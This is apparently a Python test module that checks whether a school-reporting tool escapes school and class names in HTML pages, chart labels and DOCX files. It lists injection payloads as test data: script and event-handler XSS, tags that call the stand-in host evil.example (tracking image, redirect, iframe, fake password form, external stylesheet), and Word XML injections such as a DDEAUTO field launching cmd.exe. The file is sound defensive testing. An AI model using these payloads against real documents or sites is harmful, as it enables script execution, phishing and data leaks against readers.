"""Attacks of a school by its own name, and by that of a class: in HTML, in drawings, in DOCX."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final
from xml.etree import ElementTree as ET

from markupsafe import Markup

from o7_warehouse.report import charts, templates
from tests.attacks.catalogue import Attack, having, without
from tests.attacks.press import INNOCENT, Press, page, part

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.attacks.press import Seen

UNESCAPED: Final = without(templates, "_environment", "autoescape=True", "autoescape=False")
ESCAPED: Final = "HTML escapes every value that an engine did not make itself"


# What a name tries -> the name, and how a browser shows that it has worked.
PAGES: Final[dict[str, tuple[str, Callable[[Seen], bool]]]] = {
    "runs a script": ("<script>stolen()</script>", lambda seen: seen.has("script")),
    "runs a script by an event of a picture": (
        "<img src=x onerror=stolen()>", lambda seen: seen.has("img", "onerror", "stolen"),
    ),
    "runs a script in the title, which it ends": (
        "</title><script>stolen()</script><title>", lambda seen: seen.has("script"),
    ),
    "runs a script when a reader follows it": (
        '<a href="javascript:stolen()">Школа</a>', lambda seen: seen.has("a", "href", "javascript:"),
    ),
    "tells a stranger who reads the page": (
        '<img src="//evil.example/seen.png">', lambda seen: seen.has("img", "src", "//evil"),
    ),
    "leads every link of the page elsewhere": (
        '<base href="//evil.example/">', lambda seen: seen.has("base", "href", "//evil"),
    ),
    "sends the reader elsewhere by itself": (
        '<meta http-equiv="refresh" content="0;url=//evil.example">', lambda seen: seen.has("meta", "content", "//evil"),
    ),
    "shows another page within the report": (
        '<iframe src="//evil.example"></iframe>', lambda seen: seen.has("iframe"),
    ),
    "asks the reader for a password": (
        '<form action="//evil.example"><input type=password>', lambda seen: seen.has("input", "type", "password"),
    ),
    "hides figures by a style": (
        "<style>td{display:none}</style>", lambda seen: seen.count("style") > 1,
    ),
    "loads a style that reads what stands in the page": (
        '<link rel=stylesheet href="//evil.example/x.css">', lambda seen: seen.has("link", "href", "//evil"),
    ),
    "hides figures behind a comment": ("--><!--", lambda seen: seen.count("td") < FIGURES),
    "writes a figure of its own into the table": (
        "</td><td>100,0</td><td>", lambda seen: seen.count("td") > FIGURES,
    ),
}  # fmt: skip
# Cells of the sheet of the school.
FIGURES: Final = 45


def _in_page(name: str, shows: Callable[[Seen], bool]) -> Callable[[Press], bool]:
    return lambda press: shows(page(press.sheet(name))) and not shows(page(press.sheet(INNOCENT)))


def _in_docx(name: str, shows: Callable[[str], bool]) -> Callable[[Press], bool]:
    return lambda press: shows(part(press.sheet(name))) and not shows(part(press.sheet(INNOCENT)))


def _is_broken(xml: str) -> bool:
    try:
        ET.fromstring(xml)  # noqa: S314 - made by ourselves a moment ago
    except ET.ParseError:
        return True
    return False


DOCUMENTS: Final = {
    "starts a program by a field of Word": (
        "</w:t><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText><w:t>", lambda xml: "<w:instrText>DDEAUTO" in xml, UNESCAPED,
    ),
    "fetches another document": (
        '</w:t></w:r></w:p><w:altChunk r:id="rId1"/><w:p><w:r><w:t>', lambda xml: "<w:altChunk" in xml, UNESCAPED,
    ),
    "breaks the document by an entity": ("&stolen;", _is_broken, UNESCAPED),
    "breaks the document by the end of a section": ("]]>", _is_broken, UNESCAPED),
    "breaks the document by a sign that XML does not know": (
        "1\x0bА", _is_broken,
        without(templates, "_environment", "finalize=_FINALIZERS.get(medium, _present)", "finalize=_present"),
    ),
}  # fmt: skip


def _drawn(press: Press) -> bool:
    """Whether a label of a drawing runs a script; drawings stand within the page."""
    del press
    return "<script>" in charts._text(0, 0, "</text><script>stolen()</script>", size=10)  # noqa: SLF001


def _attacks() -> list[Attack]:
    found = [
        Attack(code=f"PAGE-{number:02}", name=f"a name that {does}", defence=ESCAPED, attempt=_in_page(*words), removed=UNESCAPED)
        for number, (does, words) in enumerate(PAGES.items(), start=1)
    ]  # fmt: skip
    found += [
        Attack(
            code=f"PAGE-{number:02}", name=f"a name that {does}", defence="DOCX escapes values and leaves out what XML has not",
            attempt=_in_docx(name, shows), removed=removed,
        )
        for number, (does, (name, shows, removed)) in enumerate(DOCUMENTS.items(), start=len(found) + 1)
    ]  # fmt: skip
    found.append(
        Attack(
            code=f"PAGE-{len(found) + 1:02}", name="a name that runs a script out of a drawing",
            defence="labels of drawings are escaped", attempt=_drawn, removed=having(charts, "escape", Markup),
        )
    )  # fmt: skip
    return found


ATTACKS: Final = _attacks()
